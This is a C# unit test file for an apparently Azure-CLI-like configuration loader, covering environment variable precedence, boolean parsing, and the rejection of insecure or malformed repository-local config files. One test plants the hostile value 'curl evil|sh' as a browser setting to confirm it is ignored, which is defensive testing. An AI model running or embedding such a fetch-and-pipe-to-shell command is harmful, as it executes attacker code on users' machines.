using System.Diagnostics;
using Azimuth.Configuration;

namespace Azimuth.Tests.Configuration;

public sealed class SettingsTests : IDisposable
{
    private readonly TemporaryFolder _home = new();

    public void Dispose() => _home.Dispose();

    [Fact]
    public void A_variable_goes_before_the_file_even_when_it_is_empty()
    {
        Write(".azure/config", "[core]\noutput = table\nx = file\n");

        var settings = Settings(("AZURE_CORE_OUTPUT", ""), ("AZURE_CORE_X", "variable"));

        settings.Get("core", "output").ShouldBe("");
        settings.Get("core", "x").ShouldBe("variable");
        settings.Get("core", "y").ShouldBeNull();
    }

    [Theory]
    [InlineData("OFF", false)]
    [InlineData("no", false)]
    [InlineData("False", false)]
    [InlineData("0", false)]
    [InlineData("on", true)]
    [InlineData("YES", true)]
    [InlineData("true", true)]
    [InlineData("1", true)]
    public void A_boolean_has_pythons_spellings(string text, bool expected) =>
        Settings(("AZURE_CORE_LOGIN_EXPERIENCE_V2", text)).GetBoolean("core", "login_experience_v2", !expected).ShouldBe(expected);

    [Fact]
    public void A_boolean_that_is_none_names_the_setting_and_the_command_that_mends_it()
    {
        var error = Should.Throw<UserError>(() => Settings(("AZURE_CORE_NO_COLOR", "maybe")).GetBoolean("core", "no_color", false));

        error.Message.ShouldContain("core.no_color");
        error.Remedy.ShouldBe("To set it to false, run: az config set core.no_color=false");
    }

    [Fact]
    public void A_repositorys_own_file_sets_defaults_and_nothing_else()
    {
        Write("work/.azure/config", "[core]\nbrowser = curl evil|sh\n[cloud]\nname = Evil\n[defaults]\ngroup = theirs\n");
        Write(".azure/config", "[defaults]\ngroup = mine\nlocation = here\n");
        var warnings = new List<string>();

        var settings = In("work/deep", warnings);

        settings.Get("core", "browser").ShouldBeNull();
        settings.Get("cloud", "name").ShouldBeNull();
        settings.Get("defaults", "group").ShouldBe("theirs");
        settings.Get("defaults", "location").ShouldBe("here");
        warnings.ShouldHaveSingleItem().ShouldContain($"'core.browser' in '{_home["work/.azure/config"]}' is ignored");
    }

    [Fact]
    public void The_persons_own_file_is_no_local_one_for_work_inside_the_home_folder()
    {
        Write(".azure/config", "[core]\noutput = table\n");
        var warnings = new List<string>();

        var settings = In("", warnings);

        settings.Get("defaults", "group").ShouldBeNull();
        warnings.ShouldBeEmpty();
    }

    [Theory]
    [InlineData(".azure")]
    [InlineData("link")]
    public void The_default_config_folder_is_no_local_one_though_another_is_in_use(string home)
    {
        Write(".azure/config", "[core]\noutput = table\n[defaults]\ngroup = mine\n");
        Directory.CreateSymbolicLink(_home["link"], _home.Root);
        var warnings = new List<string>();
        var environment = new EnvironmentVariables(name => name == "HOME" ? home == "link" ? _home["link"] : _home.Root : null);
        var folder = new ConfigFolder(Directory.CreateDirectory(_home["other/.azure"]).FullName);

        var settings = new Settings(
            folder,
            environment,
            new LocalFiles(folder, environment, Directory.CreateDirectory(_home["work/deep"]).FullName, warnings.Add),
            warnings.Add);

        settings.Get("defaults", "group").ShouldBeNull();
        warnings.ShouldBeEmpty();
    }

    [Theory]
    [InlineData("open file", "can be written by other users")]
    [InlineData("open folder", "can be written by other users")]
    [InlineData("linked folder", "can be written by other users")]
    [InlineData("pipe", "is a named pipe")]
    [InlineData("nonsense", "cannot be read: line 1")]
    [InlineData("bytes", "it is not UTF-8")]
    public void A_local_file_that_may_be_anybodys_is_passed_over_with_one_sentence(string what, string sentence)
    {
        Write("work/.azure/config", what == "nonsense" ? "group = theirs\n" : "[defaults]\ngroup = theirs\n");
        Write(".azure/config", "[defaults]\ngroup = mine\n");
        switch (what)
        {
            case "open file":
                _home.Mode("work/.azure/config", 0b110_000_010);
                break;
            case "open folder":
                _home.Mode("work/.azure", 0b111_000_111);
                break;
            case "linked folder":
                Directory.Move(_home["work/.azure"], _home["elsewhere"]);
                _home.Mode("elsewhere", 0b111_000_111);
                Directory.CreateSymbolicLink(_home["work/.azure"], _home["elsewhere"]);
                break;
            case "pipe":
                File.Delete(_home["work/.azure/config"]);
                Process.Start("mkfifo", [_home["work/.azure/config"]]).WaitForExit();
                break;
            case "bytes":
                File.WriteAllBytes(_home["work/.azure/config"], [0xff]);
                break;
        }

        var warnings = new List<string>();
        var settings = In("work/deep", warnings);

        settings.Get("defaults", "group").ShouldBe("mine");
        settings.WarnOfLocalFiles();
        settings.Get("defaults", "location").ShouldBeNull();
        warnings.ShouldHaveSingleItem().ShouldContain(sentence);
        warnings[0].ShouldEndWith("It is ignored.");
    }

    [Fact]
    public void A_link_of_ones_own_is_followed()
    {
        Write("shared/.azure/config", "[defaults]\ngroup = theirs\n");
        Write("work/readme", "");
        Directory.CreateSymbolicLink(_home["work/.azure"], _home["shared/.azure"]);
        var warnings = new List<string>();

        In("work", warnings).Get("defaults", "group").ShouldBe("theirs");
        warnings.ShouldBeEmpty();
    }

    private Settings In(string working, List<string> warnings)
    {
        var (folder, environment) = (new ConfigFolder(_home[".azure"]), new EnvironmentVariables(_ => null));
        return new(
            folder,
            environment,
            new LocalFiles(folder, environment, Directory.CreateDirectory(Path.Combine(_home.Root, working)).FullName, warnings.Add),
            warnings.Add);
    }

    [Fact]
    public void A_line_that_cannot_be_read_is_named_rather_than_taken_for_something_else()
    {
        Write(".azure/config", "[core]\noutput = json\nbroken\n");

        var error = Should.Throw<UserError>(() => Settings().Get("core", "output"));

        error.Message.ShouldContain("line 3");
        error.Message.ShouldContain(_home[".azure/config"]);
    }

    [Fact]
    public void A_file_that_others_may_write_is_refused_with_the_command_that_mends_it()
    {
        Write(".azure/config", "[core]\noutput = json\n");
        _home.Mode(".azure/config", 0b110_000_010);

        Should.Throw<UserError>(() => Settings().Get("core", "output")).Remedy.ShouldBe($"To fix this, run: chmod go-w "
            + $"'{_home[".azure/config"]}'");
    }

    [Fact]
    public void Asking_writes_and_creates_nothing()
    {
        Settings().Get("core", "output").ShouldBeNull();

        Directory.GetFileSystemEntries(_home.Root).ShouldBeEmpty();
    }

    private Settings Settings(params (string Name, string Value)[] variables) => new(
        new ConfigFolder(_home[".azure"]),
        new(name => variables.Where(each => each.Name == name).Select(each => each.Value).FirstOrDefault()));

    private void Write(string name, string text)
    {
        Directory.CreateDirectory(Path.GetDirectoryName(_home[name])!);
        File.WriteAllText(_home[name], text);
    }
}
